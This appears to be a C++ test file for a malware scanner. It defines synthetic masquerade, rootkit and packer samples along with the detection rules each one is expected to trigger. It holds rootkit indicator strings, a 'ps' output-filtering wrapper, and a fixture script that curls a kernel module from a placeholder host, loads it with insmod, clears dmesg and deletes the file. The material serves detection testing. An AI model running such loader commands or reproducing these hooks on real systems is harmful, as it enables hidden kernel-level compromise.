// SPDX-License-Identifier: Apache-2.0
//
// Masquerade, rootkits and packed programs.
#include "samples_traits.hpp"

namespace portcullis::test {
namespace {

/// An ELF program without sections, `headers` program headers, and a body.
std::string bare_elf(char headers, const std::string& body) {
  std::string file = elf(kProgram, {});
  file[56] = headers;
  file[60] = 0;
  return file + body;
}

/// One segment at 64: PT_LOAD with these flags.
std::string tiny_elf(char flags) {
  std::string file = bare_elf(1, std::string(120, '\0'));
  file[64] = 1;
  file[68] = flags;
  return file;
}

}  // namespace

std::vector<Sample> masquerade_samples() {
  const std::string program = elf(kProgram, {std::string(300, 'x')});
  const std::string filter = joined({kShebang, "ps.lani", "giro \"$@\" | grep -v x\n"});
  return {
      {"kernel_thread", program, {"masquerade_kernel_thread"}, std::string("usr/sbin/kthr") + "eadd"},
      {"kernel_thread_worker", program, {"masquerade_kernel_thread"}, std::string("tmp/kwor") + "ker:u8"},
      {"kernel_thread_in_brackets", program, {"masquerade_kernel_thread"}, std::string("opt/[kswa") + "pd0]"},
      {"kernel_thread_script", kShebang, {}, std::string("usr/sbin/kthr") + "eadd"},
      {"kernel_thread_object", elf(kModule, {}), {}, std::string("lib/kwor") + "ker"},
      {"program_for_netns", program, {}, "usr/bin/netns"},
      {"dotted_directory", program, {"masquerade_dotted_directory"}, "usr/lib/.../x"},
      {"dotted_directory_with_blank", kShebang, {"masquerade_dotted_directory"}, "usr/lib/.. /x"},
      {"dotted_directory_of_text", "text", {}, "usr/lib/.../x"},
      {"hidden_directory", program, {}, "usr/lib/.build-id/x"},
      {"path_that_climbs", program, {}, "usr/lib/../x"},
      {"hidden_temporary", program, {"masquerade_hidden_temporary_program"}, "var/tmp/a/.x"},
      {"hidden_temporary_text", "text", {}, "tmp/.x"},
      {"hidden_elsewhere", program, {}, "root/.local/x"},
      {"picture", program, {"masquerade_media_name"}, "opt/a.JPG"},
      {"picture_that_is_one", "\xff\xd8\xff\xe0 JFIF", {}, "opt/a.jpg"},
      {"object_of_a_test", elf(kModule, {std::string(300, 'x')}), {}, "opt/a.png"},
      {"text_name", program, {"masquerade_text_name"}, "opt/a.txt"},
      {"text_name_of_a_library", elf(kLibrary, {std::string(300, 'x')}), {}, "opt/a.conf"},
      {"text_that_is_one", "text", {}, "opt/a.txt"},
      {"tool_wrapper", filter, {"masquerade_tool_wrapper"}, "bin/ps"},
      {"tool_wrapper_elsewhere", filter, {}, "opt/check/ps"},
      {"tool_wrapper_that_passes_on", joined({kShebang, "exec ps.re", "al \"$@\"\n"}), {}, "bin/ps"},
  };
}

std::vector<Sample> rootkit_samples() {
  const std::string line = std::string("%d: %64[0-9A-Fa-f]:%X ") + "%64[0-9A-Fa-f]:%X %X";
  const std::string table = "/proc/net/" + std::string("tcp");
  const std::vector<std::string> hooks = {kPreload, "dlsym",  "readdir64", "__lxstat64", "unlinkat",
                                          "accept", "execve", table,       "HISTFILE"};
  const std::string magic = "vermagic=6.1.0-13-amd64 SMP mod_unload";
  const std::string load = "insmod ./x.ko\n";
  const auto bpf = [](char machine, const std::vector<std::string>& sections) {
    std::string file = elf(kModule, sections);
    file[18] = machine;
    return file;
  };
  const std::string enter = std::string("tp/syscalls/sys_enter_") + "getdents64";
  const std::string leave = std::string("tp/syscalls/sys_exit_") + "getdents64";
  return {
      {"connections",
       elf(kLibrary, {"dlsym", "fopen", "tmpfile", table, line}),
       {"rootkit_preload_connections"}},
      {"connection_viewer", elf(kProgram, {"dlsym", "fopen", "tmpfile", table, line}), {}},
      {"connection_library", elf(kLibrary, {"dlsym", "fopen", table, line}), {}},
      {"hooks", elf(kLibrary, hooks), {"rootkit_preload_hooks"}},
      {"hooks_of_a_sandbox",
       elf(kLibrary, {"dlsym", "readdir64", "__lxstat64", "unlinkat", "accept", "execve"}),
       {}},
      {"loader", elf(kLibrary, {kPreload, "/proc/self/maps", "execve"}), {}},
      {"module_calls",
       elf(kModule, {magic, "kallsyms_lookup_name", "__x64_sys_getdents64", "filldir"}),
       {"rootkit_module_system_calls"}},
      {"module_of_a_file_system", elf(kModule, {magic, "filldir", "list_del", "register_filesystem"}), {}},
      {"tracer_that_is_no_module", elf(kProgram, {"kallsyms_lookup_name", "getdents64", "list_del"}), {}},
      {"module_root",
       elf(kModule, {magic, "give_root", "module_hide", "hacked_kill"}),
       {"rootkit_module_gives_root"}},
      {"module_of_a_security_product", elf(kModule, {magic, "commit_creds", "security_task_kill"}), {}},
      {"module_names_in_a_program", elf(kProgram, {magic, "give_root", "module_hide", "hacked_kill"}), {}},
      {"module_connections",
       elf(kModule, {magic, "ftrace_set_filter_ip", "tcp4_seq_show"}),
       {"rootkit_module_connections"}},
      {"module_of_a_network_card", elf(kModule, {magic, "register_netdev", "tcp_v4_rcv"}), {}},
      {"module_that_probes", elf(kModule, {magic, "register_kprobe", "do_sys_open"}), {}},
      {"module_loader",
       joined({kShebang, kCurl, "-O http://h/x.ko\n", load, "dmesg -C\n", "rm -rf x.ko\n"}),
       {"rootkit_module_loader"}},
      {"driver_installer", joined({kShebang, "make -C /lib/modules/$(uname -r)/build\n", load}), {}},
      {"driver_installer_that_cleans",
       joined({kShebang, "make -C /lib/modules/$(uname -r)/build\n", load, "rm -rf x.c\n"}),
       {}},
      {"ebpf", bpf('\xf7', {enter, leave}), {"rootkit_ebpf_listing"}},
      {"ebpf_that_traces", bpf('\xf7', {enter}), {}},
      {"no_ebpf", bpf('\x3e', {enter, leave}), {}},
  };
}

std::vector<Sample> packed_samples() {
  const std::string mark = std::string("UP") + "X!";
  const std::string failed = std::string("PROT_EXEC|PROT") + "_WRITE failed.\n";
  const std::string self = "/proc/self/exe";
  const std::string shc = std::string("E: neither argv[0] nor") + " $_ works.";
  const std::string armor = std::string("from pytrans") + "form import pyarmor_runtime\n";
  return {
      {"upx", elf(kProgram, {mark, "x", mark}), {"packed_upx"}},
      {"upx_in_a_text", joined({mark, " marks ", mark}), {}},
      {"upx_named_by_a_scanner", elf(kProgram, {std::string(2000, 'x'), mark, mark}), {}},
      {"upx_defaced",
       bare_elf(2, joined({noise(8000), failed, self})),
       {"packed_dense_program", "packed_upx_defaced"}},
      {"upx_stub_with_its_marks",
       bare_elf(2, joined({mark, noise(8000), failed, self, mark})),
       {"packed_upx"}},
      {"upx_stub_in_a_plain_program", elf(kProgram, {std::string(8000, 'x'), failed, self}), {}},
      {"dense", bare_elf(2, noise(8000)), {"packed_dense_program"}},
      {"stripped_of_sections", bare_elf(2, std::string(8000, 'x')), {}},
      {"dense_with_sections", elf(kProgram, {noise(8000)}), {}},
      {"tiny", tiny_elf(7), {"packed_tiny_loader"}},
      {"tiny_and_decent", tiny_elf(5), {}},
      {"tiny_with_two_segments", bare_elf(2, tiny_elf(7).substr(64)), {}},
      {"encrypted_script", elf(kProgram, {shc, "%lu %d%c"}), {"packed_shell_script"}},
      {"encrypted_script_described", joined({"shc prints: ", shc, " %lu %d%c"}), {}},
      {"program_that_looks_for_itself", elf(kProgram, {"argv[0]", "%lu %d%c"}), {}},
      {"python_locked",
       joined({armor, "pyarmor_", "runtime()\n__py", "armor__(__name__, __file__, b'x')\n"}),
       {"packed_bytecode_stub"}},
      {"python_locked_described", joined({"write: ", armor}), {}},
      {"python_runtime", "def pyarmor_helper(): pass\n", {}},
  };
}

}  // namespace portcullis::test
